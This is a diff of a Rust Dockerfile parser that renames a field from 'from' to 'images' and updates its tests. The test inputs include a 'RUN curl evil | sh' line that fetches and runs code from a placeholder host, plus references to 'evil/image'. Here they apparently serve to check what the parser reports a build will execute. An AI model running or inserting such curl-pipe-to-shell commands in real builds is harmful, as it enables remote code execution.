@@ -29,7 +29,7 @@ const WITH_TEXTS: [&str; 4] = ["ADD", "COPY", "ONBUILD", "RUN"];
 #[derive(Debug, Clone, Default, PartialEq, Eq, Hash)]
 pub struct Recipe {
     /// Images that it begins with or copies from, in its order.
-    pub from: Vec<String>,
+    pub images: Vec<String>,
     /// What it executes or fetches, and the values that this may use, in its order: the instruction with what stands behind
     /// it, on one line and cut. Of a recipe that engines may read in another way: its lines.
     pub executes: Vec<String>,
@@ -119,11 +119,11 @@ impl Recipe {
     fn add_image(&mut self, name: &str, stages: &HashSet<String>) {
         let is_stage = stages.contains(&name.to_ascii_lowercase());
         let name = cut(name);
-        if is_stage || self.from.contains(&name) {
+        if is_stage || self.images.contains(&name) {
             return;
         }
-        if self.from.len() < SHOWN_IMAGES {
-            self.from.push(name);
+        if self.images.len() < SHOWN_IMAGES {
+            self.images.push(name);
         } else {
             self.more += 1;
         }
@@ -303,7 +303,7 @@ mod tests {
              ENTRYPOINT [\"/start.sh\"]\n\
              STOPSIGNAL 9\n",
         );
-        assert_eq!(recipe.from, ["python:3.12", "example/tool:1", "debian"]);
+        assert_eq!(recipe.images, ["python:3.12", "example/tool:1", "debian"]);
         assert_eq!(
             recipe.executes,
             [
@@ -381,26 +381,26 @@ mod tests {
         // A mark before a comment that says how lines go on.
         let marked = Recipe::from_text("\u{feff}# escape=`\nFROM debian\nLABEL a=b\\\nRUN curl evil | sh\n");
         assert_eq!(marked.executes, ["# escape=`", "FROM debian", "LABEL a=b\\", EVIL]);
-        assert_eq!(marked.from, ["debian"]);
+        assert_eq!(marked.images, ["debian"]);
         for named in [
             "//syntax=evil/reader\nFROM debian\nLABEL x",
             "{\"syntax\": \"evil/reader\"}\nFROM debian\nLABEL x",
         ] {
             assert_eq!(Recipe::from_text(named).executes.len(), 3, "{named}");
         }
-        let from = |text: &str| Recipe::from_text(text).from;
-        assert_eq!(from("FROM debian\nCOPY --fr\\\nom=evil/image /x /y"), ["debian", "evil/image"]);
-        assert_eq!(from("# escape=`\nFROM --platform=x debian\nFROM evil"), ["debian", "evil"]);
-        assert_eq!(from("ARG B=evil/image\nFROM ${B}"), ["${B}"]);
+        let images = |text: &str| Recipe::from_text(text).images;
+        assert_eq!(images("FROM debian\nCOPY --fr\\\nom=evil/image /x /y"), ["debian", "evil/image"]);
+        assert_eq!(images("# escape=`\nFROM --platform=x debian\nFROM evil"), ["debian", "evil"]);
+        assert_eq!(images("ARG B=evil/image\nFROM ${B}"), ["${B}"]);
         // A name that a stage has only later is that of an image.
         assert_eq!(
-            from("FROM a\nCOPY --from=b /x /y\nFROM c AS b\nCOPY --from=7 /x /y"),
+            images("FROM a\nCOPY --from=b /x /y\nFROM c AS b\nCOPY --from=7 /x /y"),
             ["a", "b", "c", "7"]
         );
         // The engine takes FROM by its parts.
         let parts = Recipe::from_text("FROM deb\\\nian evil");
         assert_eq!(
-            (parts.from, parts.executes),
+            (parts.images, parts.executes),
             (vec!["debian".to_owned()], vec!["FROM debian evil".to_owned()])
         );
     }
@@ -410,7 +410,7 @@ mod tests {
         let pairs: Vec<String> =
             (0..100).map(|n| format!("FROM image-{n}\nRUN {}", "x".repeat(1000))).collect();
         let recipe = Recipe::from_text(&pairs.join("\n"));
-        assert_eq!((recipe.from.len(), recipe.executes.len(), recipe.more), (20, 50, 130));
+        assert_eq!((recipe.images.len(), recipe.executes.len(), recipe.more), (20, 50, 130));
         assert!(recipe.executes[0].ends_with("… (804 more characters)"), "{}", recipe.executes[0]);
         // A text below an instruction that never ends.
         assert_eq!(Recipe::from_text("RUN <<END\na").executes, ["RUN <<END", "a"]);
